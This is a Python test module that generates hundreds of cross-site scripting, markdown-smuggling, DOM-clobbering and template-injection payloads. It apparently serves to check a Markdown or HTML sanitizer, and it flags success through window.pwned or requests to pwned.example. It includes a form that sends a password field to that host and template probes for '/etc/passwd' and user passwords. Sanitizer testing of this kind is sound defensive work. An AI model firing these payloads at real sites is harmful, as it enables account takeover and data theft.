"""Strings that try to run script, load something or rebuild the page, for tests here and in a real browser.

They are built so that success shows: as soon as anything comes alive (some wait for a click), they set
`window.pwned = 1` or ask for an address below BEACON; those that take names or speak to a template engine show
in the page. `ATTACKS` holds them in a fixed order without repetitions, `FAMILIES` by kind. The few with control
characters do not get past the gate.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import product

BEACON = "https://pwned.example"
SCRIPT = "window.pwned=1"

_QUOTES = ('"', "'", "`", "")
_EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle")
_TAGS_WITH_EVENTS = ("img", "svg", "body", "input", "video", "audio", "details", "marquee", "a", "div")

_SCHEMES = (
    "javascript:",
    "JavaScript:",
    "jAvAsCrIpT:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    " javascript:",
    "\x01javascript:",
    "\u00a0javascript:",
    "\u200bjavascript:",
    "\ufeffjavascript:",
    "\u202ejavascript:",
    "java\u00adscript:",
    "javascript\u200b:",
    "javascript :",
    "ｊａｖａｓｃｒｉｐｔ:",
    "javaſcript:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "javascript&#0000058",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#x0000006A&#x00000061vascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "javascript%3A",
    "javascript\\:",
    "\\javascript:",
    "javascript://%0a",
    "javascript:javascript:",
    "view-source:javascript:",
    "vbscript:",
    "VBScript:",
    "livescript:",
    "mocha:",
    "feed:javascript:",
    "jar:javascript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "DATA:text/html;charset=utf-8,",
    "blob:",
    "filesystem:",
    "file:///",
    "about:blank#",
    "x:",
)
_CARRIERS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    '<a href="{}">x</a>',
)
_DATA_PAGES = {"data:text/html,", "data:text/html;base64,", "DATA:text/html;charset=utf-8,"}


def _addresses() -> Iterator[str]:
    for scheme, carrier in product(_SCHEMES, _CARRIERS):
        yield carrier.format(scheme + _payload(scheme))
    for address in (
        "//pwned.example/x",
        "/\\pwned.example/x",
        "\\\\pwned.example/x",
        "/\t/pwned.example/x",
        "https:pwned.example",
        "https:///pwned.example",
        "https://good.example@pwned.example/",
        "https://good.example\\@pwned.example/",
        "http://[::1/x",
        '/x" onclick=window.pwned=1 y="',
        'https://a.example/" onmouseover=window.pwned=1 "',
        "https://a.example/'onmouseover='window.pwned=1",
        "https://a.example/`onmouseover=window.pwned=1",
        "mailto:a@b.de?body=<script>window.pwned=1</script>",
        "tel:<script>window.pwned=1</script>",
    ):
        yield from (f"[x]({address})", f"[x](<{address}>)", f"![x]({address})", f"<{address}>", address)


def _payload(scheme: str) -> str:
    if scheme == "data:text/html;base64,":
        return "PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=="
    if scheme in _DATA_PAGES:
        return f"<script>{SCRIPT}</script>"
    if scheme == "data:image/svg+xml,":
        return f"<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'/>"
    return SCRIPT


def _scripts() -> Iterator[str]:
    for tag in (
        "<script>{}</script>",
        "<SCRIPT>{}</SCRIPT>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<script\n>{}</script\n>",
        "<script/x>{}</script>",
        "<script\t>{}</script >",
        "<script>{}",
        "<<script>{}//<</script>",
        "</script><script>{}</script>",
        "<script><!--\n{}\n--></script>",
        "<script>//<![CDATA[\n{}\n//]]></script>",
        "<\x00script>{}</script>",
        "<scri\x00pt>{}</script>",
        "\\<script>{}</script>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "＜script＞{}＜/script＞",
        "\u2039script\u203a{}\u2039/script\u203a",
        "%3Cscript%3E{}%3C/script%3E",
        "+ADw-script+AD4-{}+ADw-/script+AD4-",
        "\u00bcscript\u00be{}\u00bc/script\u00be",
    ):
        yield tag.format(SCRIPT)
    yield f"<script src={BEACON}/x.js></script>"
    yield "<script src=//pwned.example/x.js>"
    yield f"<script type=module>import '{BEACON}/x.js'</script>"
    yield f'<script type=importmap>{{"imports":{{"a":"{BEACON}/x.js"}}}}</script>'


def _handlers() -> Iterator[str]:
    for tag, event in product(_TAGS_WITH_EVENTS, _EVENTS):
        yield f"<{tag} {event}={SCRIPT} src=x autofocus open>"
    for quote in _QUOTES:
        yield f"<img src={quote}x{quote} onerror={quote}{SCRIPT}{quote}>"
    for space in ("/", "\t", "\n", "\r", "\f", "\v", "\u00a0", "/x/", " / "):
        yield f"<img{space}src=x{space}onerror={SCRIPT}>"
    yield from (
        f"<img src=x onerror\n=\n{SCRIPT}>",
        f"<img src=x oNeRrOr={SCRIPT}>",
        "<img src=x onerror=&#119;indow.pwned=1>",
        f"<img src=x onerror={SCRIPT}//",
        f"<img src=x:x onerror={SCRIPT} <b>",
        f'<img """><script>{SCRIPT}</script>">',
        f"<img alt='<x' title='/><img src=x onerror={SCRIPT}>'>",
        f"<x onclick={SCRIPT}>x</x>",
        f"<a href=# onclick={SCRIPT}>x</a>",
        f"<div style='animation-name:x' onanimationstart={SCRIPT}>x</div>",
        f"<p {'a' * 300} onclick={SCRIPT}>x</p>",
    )


def _foreign() -> Iterator[str]:
    """SVG, MathML and places parsed in their own way: what survives one reading comes alive in the next."""
    for tag in (
        "<svg><script>{s}</script></svg>",
        "<svg><script href='{b}/x.js'/></svg>",
        "<svg onload={s}>",
        "<svg><a xlink:href='javascript:{s}'><text y=9>x</text></a></svg>",
        "<svg><animate onbegin={s} attributeName=x dur=1s>",
        "<svg><set attributeName=href to='javascript:{s}' />",
        "<svg><use href='data:image/svg+xml,<svg id=x onload={s}>#x'/></svg>",
        "<svg><foreignObject><iframe src='javascript:parent.{s}'></foreignObject></svg>",
        "<svg><image href='{b}/x.png'/></svg>",
        "<svg><style><img src=x onerror={s}></style></svg>",
        "<svg><desc><img src=x onerror={s}></desc></svg>",
        "<svg><title><img src=x onerror={s}></title></svg>",
        "<svg></p><style><a id='</style><img src=1 onerror={s}>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={s}&gt;'>",
        "<math><mi//xlink:href='data:x,<script>{s}</script>'>",
        "<math href='javascript:{s}'>x</math>",
        "<math><maction actiontype='statusline' xlink:href='javascript:{s}'>x</maction></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror={s}></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
        "<noscript><p title='</noscript><img src=x onerror={s}>'>",
        "<noscript><style></noscript><img src=x onerror={s}></style></noscript>",
        "<template><img src=x onerror={s}></template>",
        "<template shadowrootmode=open><img src=x onerror={s}></template>",
        "<textarea><img title='</textarea><img src=x onerror={s}>'></textarea>",
        "<title><img title='</title><img src=x onerror={s}>'></title>",
        "<style><img title='</style><img src=x onerror={s}>'></style>",
        "<xmp><img title='</xmp><img src=x onerror={s}>'></xmp>",
        "<noembed><img title='</noembed><img src=x onerror={s}>'></noembed>",
        "<plaintext><img src=x onerror={s}>",
        "<listing>&lt;img src=x onerror={s}&gt;</listing>",
        "<select><style></select><img src=x onerror={s}></style></select>",
        "<table><td background='{b}/x.png'><script>{s}</script></td></table>",
        "<a><table><a><img src=x onerror={s}>",
        "<image src=x onerror={s}>",
    ):
        yield tag.format(b=BEACON, s=SCRIPT)


def _loaders() -> Iterator[str]:
    """What needs no script: frames, forms, styles and everything that asks another server."""
    for tag in (
        "<iframe src='{b}'></iframe>",
        "<iframe src='javascript:parent.{s}'></iframe>",
        "<iframe srcdoc='<script>parent.{s}</script>'></iframe>",
        "<object data='{b}'></object>",
        "<object data='data:text/html,<script>parent.{s}</script>'></object>",
        "<embed src='{b}'>",
        "<applet code='{b}'></applet>",
        "<frameset onload={s}><frame src='{b}'></frameset>",
        "<portal src='{b}'></portal>",
        "<fencedframe src='{b}'></fencedframe>",
        "<img src='{b}/x.png'>",
        "<img srcset='{b}/x.png 2x'>",
        "<picture><source srcset='{b}/x.png'><img></picture>",
        "<video src='{b}/x.mp4' poster='{b}/x.png'></video>",
        "<audio src='{b}/x.mp3' autoplay></audio>",
        "<video><track src='{b}/x.vtt' default></video>",
        "<input type=image src='{b}/x.png'>",
        "<body background='{b}/x.png'>",
        "<bgsound src='{b}/x.mid'>",
        "<link rel=stylesheet href='{b}/x.css'>",
        "<link rel=prefetch href='{b}/x'>",
        "<link rel=dns-prefetch href='//pwned.example'>",
        "<link rel=manifest href='{b}/x.json'>",
        "<style>@import '{b}/x.css';</style>",
        "<style>body{{background:url({b}/x.png)}}</style>",
        "<style>*{{display:none}}</style>",
        "<p style='background:url({b}/x.png)'>x</p>",
        "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
        "<p style='width:expression({s})'>x</p>",
        "<p style='behavior:url({b}/x.htc)'>x</p>",
        "<meta http-equiv=refresh content='0;url={b}'>",
        "<meta http-equiv=refresh content='0;url=javascript:{s}'>",
        "<meta http-equiv=set-cookie content='a=b'>",
        "<meta http-equiv=Content-Security-Policy content='default-src *'>",
        "<base href='{b}/'>",
        "<base target='javascript:{s}'>",
        "<form action='{b}'><input name=password><button>x</button></form>",
        "<form action='javascript:{s}'><button autofocus>x</button></form>",
        "<button form=antworten formaction='{b}'>x</button>",
        "<input form=antworten name=text value=x>",
        "<isindex action='javascript:{s}' type=image>",
        "<keygen autofocus onfocus={s}>",
        "<a href='{b}' ping='{b}' target=_blank>x</a>",
        "<a href=x download='x.exe'>x</a>",
        "<area href='javascript:{s}'>",
        "<dialog open>x</dialog>",
        "<details open ontoggle={s}>x</details>",
        "<html manifest='{b}/x'>",
        "<?xml-stylesheet href='{b}/x.xsl'?>",
        "<?php echo '<script>{s}</script>' ?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM '{b}/x'>]><x>&y;</x>",
    ):
        yield tag.format(b=BEACON, s=SCRIPT)


def _clobbering() -> Iterator[str]:
    """Names that would take the place of what the page's own scripts ask for."""
    for name in (
        "body",
        "cookie",
        "head",
        "documentElement",
        "getElementById",
        "forms",
        "location",
        "pwned",
        "htmx",
    ):
        yield f"<img name={name}>"
        yield f"<form id={name}><input name=attributes></form>"
        yield f"<a id={name} name={name} href='{BEACON}'>x</a>"
    yield "<input name=csrfmiddlewaretoken value=x>"
    yield "<article id=beitrag-1 data-post=1>x</article>"
    yield f"<p hx-get='{BEACON}' hx-trigger=load hx-target=body>x</p>"
    yield f"<p data-hx-get='{BEACON}' data-hx-trigger=load>x</p>"
    yield f"<live-thread src='{BEACON}'></live-thread>"
    yield f"<p is=x-y slot=x part=x contenteditable draggable=true onclick={SCRIPT}>x</p>"
    yield "</article></main><h1>x</h1><main>"
    yield "<div class='mention task toolbar modal kern-alert'>x</div>"


def _markdown() -> Iterator[str]:
    """HTML smuggled through the grammar: in titles, tables, fences, escapes, the parser's placeholders."""
    live = f"<img src=x onerror={SCRIPT}>"
    for frame in (
        "**{}**",
        "*{}*",
        "~~{}~~",
        "# {}",
        "> {}",
        "> > > > > > {}",
        "- {}",
        "1. {}",
        "- [ ] {}",
        "- [x] {}",
        "`{}",
        "``{}`",
        "`` ` ``{}`",
        "```\n```\n{}",
        "```{}\nx\n```",
        "~~~{}\nx\n~~~",
        "``` {{.x onclick=1}}\n{}\n```",
        "```js\n</code></pre>{}\n```",
        "    {}",
        "\t{}",
        "a | b\n- | -\n{} | x",
        "| {} |\n|---|\n| x |",
        "|x|\n|:-{}-:|\n|y|",
        "[{}](/x)",
        "[x](/x '{}')",
        '[x](/x "{}")',
        "[x](/x ({}))",
        '[x](/x "" {} ")',
        "![{}](/x)",
        "![x](/x '{}')",
        "[x](/{})",
        "[x](</{}>)",
        "[x](https://a.example/{})",
        "https://a.example/{}",
        'https://a.example/"{}',
        "<https://a.example/{}>",
        "www.a.example/{}",
        "mailto:a@b.de{}",
        "a@b.de{}",
        '"{}"@b.de',
        "[{}]: /x\n\n[{}]",
        "[x]\n\n[x]: /x '{}'",
        "[^1]\n\n[^1]: {}",
        "*[HTML]: {}\n\nHTML",
        "x {{: onclick={} }}",
        "x{{: .a #b }} {}",
        "\\{}",
        "\\\\{}",
        "x\n{}\n===",
        "x\n{}\n---",
        "<!-- {} -->",
        "<!--> {} -->",
        "<!-- -- > {}",
        "--><!-- --!>{}",
        "<![CDATA[{}]]>",
        "]]>{}",
        "<? {} ?>",
        "<![if IE]>{}<![endif]>",
        "\x02wzxhzdk:0\x03{}",
        "\x02klzzwxh:0000\x03{}",
        "\x0260\x03{}",
        "wzxhzdk:0 {}",
        "\x02amp\x03lt;{}",
        '<pre class="fence">0</pre>{}',
        '```\n<pre class="fence">0</pre>{}\n```',
        "{}\n\n```\nx\n```",
    ):
        yield frame.replace("{}", live).replace("{{", "{").replace("}}", "}")


def _broken() -> Iterator[str]:
    """Quotes and brackets that end where the reader does not expect it."""
    yield from (
        f'"><script>{SCRIPT}</script>',
        f"'><script>{SCRIPT}</script>",
        f"`><script>{SCRIPT}</script>",
        f'" onmouseover="{SCRIPT}',
        f"' onmouseover='{SCRIPT}",
        f'" autofocus onfocus={SCRIPT} x="',
        f"</p><script>{SCRIPT}</script><p>",
        f"</blockquote></li></ul></td></table><script>{SCRIPT}</script>",
        f"</textarea><script>{SCRIPT}</script>",
        f"</title><script>{SCRIPT}</script>",
        f"</style><script>{SCRIPT}</script>",
        f"--><script>{SCRIPT}</script>",
        f"*/<script>{SCRIPT}</script>/*",
        f"';{SCRIPT}//",
        f'";{SCRIPT}//',
        f"\\';{SCRIPT}//",
        f"</script><svg onload={SCRIPT}>",
        f'<a href="x" title="<a href=\'"><img src=x onerror={SCRIPT}>">x</a>',
        f"<a href='/x\n' onclick='{SCRIPT}'>x</a>",
        f'<img src="x` `<script>{SCRIPT}</script>"` `>',
        f"<b <script>{SCRIPT}</script>0",
        f'<div id="x"<img src=x onerror={SCRIPT}>',
        "<" * 50 + f"script>{SCRIPT}" + ">" * 50,
        f"<a\u2028href='javascript:{SCRIPT}'>x</a>",
        f"\u202e>tpircs/<{SCRIPT}>tpircs<",
        f"<ſcript>{SCRIPT}</ſcript>",
        f"<\u0130mg src=x onerror={SCRIPT}>",
        f"<ımg src=x onerror={SCRIPT}>",
    )


def _templates() -> Iterator[str]:
    """For a template engine, on the server or in the browser, that reads where it should only write."""
    yield from (
        "{{ 7|add:7 }}",
        "{% debug %}",
        "{% load static %}{% static 'x' %}",
        "{{ request.user.password }}",
        "{% include '/etc/passwd' %}",
        "{% autoescape off %}<script>window.pwned=1</script>{% endautoescape %}",
        "{{ '<script>window.pwned=1</script>'|safe }}",
        "{# x #}<script>window.pwned=1</script>",
        "{{constructor.constructor('window.pwned=1')()}}",
        "{{$on.constructor('window.pwned=1')()}}",
        "<div v-html=\"'<img src=x onerror=window.pwned=1>'\">{{ x }}</div>",
        "<div x-data x-init='window.pwned=1'>x</div>",
        "<div ng-app>{{constructor.constructor('window.pwned=1')()}}</div>",
        "${window.pwned=1}",
        "#{window.pwned=1}",
        "<%= window.pwned=1 %>",
        "${{window.pwned=1}}",
        "__proto__[pwned]=1",
        "%(pwned)s %s %d {0} {pwned}",
    )


def _mentions() -> Iterator[str]:
    """Around the one thing that is filled in from outside."""
    for name in ("anna", "böse", "evil"):
        for frame in (
            "@{}<script>window.pwned=1</script>",
            '@{}" onclick="window.pwned=1',
            "<@{} onclick=window.pwned=1>",
            "[@{}](javascript:window.pwned=1)",
            "[x](javascript:window.pwned=1//@{})",
            '<a href="@{}" onclick=window.pwned=1>x</a>',
            "`@{}`<img src=x onerror=window.pwned=1>",
            "https://pwned.example/@{}<img src=x onerror=window.pwned=1>",
            "@{}@pwned.example",
            "@{}](javascript:window.pwned=1)",
        ):
            yield frame.format(name)


def _unique(attacks: Iterable[str]) -> list[str]:
    return list(dict.fromkeys(attacks))


FAMILIES: dict[str, list[str]] = {
    "addresses": _unique(_addresses()),
    "scripts": _unique(_scripts()),
    "handlers": _unique(_handlers()),
    "foreign": _unique(_foreign()),
    "loaders": _unique(_loaders()),
    "clobbering": _unique(_clobbering()),
    "markdown": _unique(_markdown()),
    "broken": _unique(_broken()),
    "templates": _unique(_templates()),
    "mentions": _unique(_mentions()),
}
ATTACKS: list[str] = _unique(attack for family in FAMILIES.values() for attack in family)
